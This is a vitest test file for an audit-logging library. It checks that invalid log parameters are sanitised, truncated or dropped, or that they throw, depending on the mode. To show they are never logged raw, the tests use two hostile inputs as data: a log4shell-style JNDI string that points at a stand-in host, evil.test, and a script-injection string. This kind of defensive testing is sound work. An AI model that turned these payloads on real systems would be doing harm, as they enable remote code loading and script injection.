import {
  type AuditLoggerOptions,
  AuditlineError,
  AuditValidationError,
  createAuditLogger,
  ERROR_CODES,
  runWithAuditContext,
} from '@auditline/core';
import { createMemorySink, type MemorySink } from '@auditline/core/testing';
import { describe, expect, it } from 'vitest';

// SPEC §4.3: log() params are validated. With onInvalid 'emit' (the default)
// the entry is still written, valid fields kept, invalid ones replaced by a
// safe string form, and details.validation_errors lists the issues; it never
// throws and never drops. With 'throw', an AuditValidationError carries them.

const VALID = { action: 'LOGIN', resource: '/login', status: 'SUCCESS' } as const;
const UUID = /^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/;

interface Issue {
  path: string;
  code: string;
  message: string;
}

function setup(options: Partial<AuditLoggerOptions> = {}) {
  const sink = createMemorySink();
  const audit = createAuditLogger({ destination: sink, format: 'json', ...options });
  sink.clear();
  return { sink, audit };
}

function only(sink: MemorySink): {
  raw: string;
  line: Record<string, unknown>;
  details: Record<string, unknown>;
} {
  expect(sink.lines).toHaveLength(1);
  const raw = sink.lines[0] as string;
  const line = JSON.parse(raw) as Record<string, unknown>;
  return { raw, line, details: (line.details ?? {}) as Record<string, unknown> };
}

const pathsOf = (details: Record<string, unknown>): string[] =>
  ((details.validation_errors ?? []) as Issue[]).map((issue) => issue.path).sort();

describe("invalid params with onInvalid: 'emit' (the default)", () => {
  it('writes the line, keeps valid fields and replaces invalid ones by a safe string form', () => {
    // Prepare
    const { sink, audit } = setup();
    // Act
    const entry = audit.log({
      action: 'delete everything',
      resource: '/orders/7',
      status: 'OK',
      user_id: 42,
      method: 'X'.repeat(100),
      path: '/orders/7',
      user_agent: 'curl/8',
      details: { orderId: 'o-7' },
    } as never);
    // Assess
    const { line, details } = only(sink);
    expect(line.resource).toBe('/orders/7');
    expect(line.path).toBe('/orders/7');
    expect(line.user_agent).toBe('curl/8');
    expect(line.action).toBe('delete everything');
    expect(line.status).toBe('OK');
    expect(line.user_id).toBe('42');
    expect(line.method).toBe('X'.repeat(32));
    expect(details.orderId).toBe('o-7');
    expect(pathsOf(details)).toEqual(['action', 'method', 'status', 'user_id']);
    for (const issue of details.validation_errors as Issue[]) {
      expect(issue.code).toEqual(expect.any(String));
      expect(issue.message).toEqual(expect.any(String));
    }
    expect(entry.action).toBe('delete everything');
  });

  it('names a missing required field "[missing]" and an empty one "[empty]"', () => {
    const { sink, audit } = setup();
    audit.log({ resource: '', details: null } as never);
    const { line, details } = only(sink);
    expect(line.action).toBe('[missing]');
    expect(line.resource).toBe('[empty]');
    expect(line.status).toBe('[missing]');
    expect(pathsOf(details)).toEqual(['action', 'resource', 'status']);
  });

  it('cuts an over-long resource to its 1,024-character cap', () => {
    const { sink, audit } = setup();
    audit.log({ ...VALID, resource: `/${'r'.repeat(5_000)}` });
    const { line, details } = only(sink);
    expect(line.resource).toBe(`/${'r'.repeat(1_023)}`);
    expect(pathsOf(details)).toEqual(['resource']);
  });

  it('never writes an invalid ip_address raw: it is left out, with an issue', () => {
    const { sink, audit } = setup();
    for (const ip of ['999.1.1.1', '<script>alert(1)</script>', '10.0.0.1, 10.0.0.2', 7]) {
      sink.clear();
      audit.log({ ...VALID, ip_address: ip } as never);
      const { raw, line, details } = only(sink);
      expect(line).not.toHaveProperty('ip_address');
      expect(raw).not.toContain('script');
      expect(raw).not.toContain('999.1.1.1');
      expect(pathsOf(details)).toEqual(['ip_address']);
    }
  });

  it('never writes an invalid traceId raw: the context one or a fresh UUID is used', () => {
    const { sink, audit } = setup();
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4shell-style payload, literally
    const hostile = '${jndi:ldap://evil.test/a}';
    audit.log({ ...VALID, traceId: hostile } as never);
    runWithAuditContext({ traceId: 'ctx-trace-1' }, () => {
      audit.log({ ...VALID, traceId: 'has spaces and "quotes"' } as never);
    });
    const [first, second] = sink.lines.map((raw) => JSON.parse(raw)) as Array<
      Record<string, unknown>
    >;
    expect(sink.lines.join('')).not.toContain('jndi');
    expect(sink.lines.join('')).not.toContain('has spaces');
    expect(first?.traceId).toMatch(UUID);
    expect(second?.traceId).toBe('ctx-trace-1');
    expect(pathsOf(first?.details as Record<string, unknown>)).toEqual(['traceId']);
  });

  it('replaces badly typed reserved detail keys and keeps the other details', () => {
    const { sink, audit } = setup();
    audit.log({
      ...VALID,
      details: {
        statusCode: '200',
        duration_ms: -5,
        mfa_used: 'yes',
        error: { nested: true },
        reason: 12,
        orderId: 'o-1',
      },
    } as never);
    const { details } = only(sink);
    expect(details).toMatchObject({
      statusCode: '200',
      duration_ms: '-5',
      mfa_used: 'yes',
      error: '[invalid object]',
      reason: '12',
      orderId: 'o-1',
    });
    expect(pathsOf(details)).toEqual([
      'details.duration_ms',
      'details.error',
      'details.mfa_used',
      'details.reason',
      'details.statusCode',
    ]);
  });

  it('keeps details that are not an object under details.invalid_details', () => {
    const { sink, audit } = setup();
    audit.log({ ...VALID, details: ['a', 1] } as never);
    audit.log({ ...VALID, details: 'just text' } as never);
    const [list, text] = sink.lines.map((raw) => JSON.parse(raw).details) as Array<
      Record<string, unknown>
    >;
    expect(list?.invalid_details).toEqual(['a', 1]);
    expect(text?.invalid_details).toBe('just text');
    expect(pathsOf(list as Record<string, unknown>)).toEqual(['details']);
  });

  it('keeps plain details with a throwing getter next to the issues, that member alone unreadable', () => {
    const { sink, audit } = setup();
    const details = {
      orderId: 'o-1',
      get broken(): never {
        throw new Error('getter');
      },
    };
    audit.log({ ...VALID, status: 'MAYBE', details } as never);
    const { details: written } = only(sink);
    expect(written).toMatchObject({ orderId: 'o-1', broken: '[Unserializable]' });
    expect(pathsOf(written)).toEqual(['status']);
  });

  // On the invalid path the issues are merged by the serialiser
  // (`object(details, bindings, extra)`), not by a spread, which would empty a Map.
  it('keeps the content of Map details when another field is invalid', () => {
    const { sink, audit } = setup();
    audit.log({ ...VALID, status: 'MAYBE', details: new Map([['orderId', 'o-1']]) } as never);
    const { details } = only(sink);
    expect(details.orderId).toBe('o-1');
    expect(pathsOf(details)).toEqual(['status']);
  });

  it('writes exactly one line for params that are not an object at all', () => {
    // Prepare
    const { sink, audit } = setup();
    const inputs: unknown[] = [null, undefined, 'LOGIN', 42, ['LOGIN', '/x', 'SUCCESS'], true];
    // Act: nothing may throw.
    for (const input of inputs) audit.log(input as never);
    // Assess
    expect(sink.lines).toHaveLength(inputs.length);
    sink.entries.forEach((entry, i) => {
      expect(entry.action).toBe('[missing]');
      expect(entry.resource).toBe('[missing]');
      expect(entry.status).toBe('[missing]');
      const details = entry.details as Record<string, unknown>;
      expect(details.validation_errors).toEqual([
        expect.objectContaining({ path: '', code: 'invalid_type' }),
      ]);
      expect(details.invalid_params).toEqual(inputs[i]); // undefined: the key is left out
    });
  });

  it('writes valid params without validation_errors, and the entry it returns matches the line', () => {
    const { sink, audit } = setup();
    const entry = audit.log({
      ...VALID,
      user_id: 'u-1',
      ip_address: '::1',
      details: { statusCode: 200 },
    });
    const { line, details } = only(sink);
    expect(details).toEqual({ statusCode: 200 });
    expect(line.ip_address).toBe('::1');
    expect(entry.seq).toBe(line.seq);
    expect(entry.traceId).toBe(line.traceId);
  });
});

describe("invalid params with onInvalid: 'throw'", () => {
  it('throws an AuditValidationError carrying the issues, and writes nothing', () => {
    // Prepare
    const { sink, audit } = setup({ onInvalid: 'throw' });
    // Act
    let thrown: unknown;
    try {
      audit.log({ ...VALID, status: 'MAYBE', ip_address: 'nope' } as never);
    } catch (error) {
      thrown = error;
    }
    // Assess
    expect(thrown).toBeInstanceOf(AuditValidationError);
    expect(thrown).toBeInstanceOf(AuditlineError);
    const error = thrown as AuditValidationError;
    expect(error.code).toBe(ERROR_CODES.invalidEntry);
    expect(error.issues.map((issue) => issue.path).sort()).toEqual(['ip_address', 'status']);
    expect(error.message).toContain('status');
    expect(sink.lines).toHaveLength(0);
  });

  it('throws for params that are not an object, and for unknown top-level keys', () => {
    const { sink, audit } = setup({ onInvalid: 'throw' });
    expect(() => audit.log(null as never)).toThrow(AuditValidationError);
    expect(() => audit.log({ ...VALID, seq: 1 } as never)).toThrow(/seq/);
    expect(sink.lines).toHaveLength(0);
  });

  it('still writes valid params', () => {
    const { sink, audit } = setup({ onInvalid: 'throw' });
    audit.log({ ...VALID });
    expect(only(sink).line.action).toBe('LOGIN');
  });
});
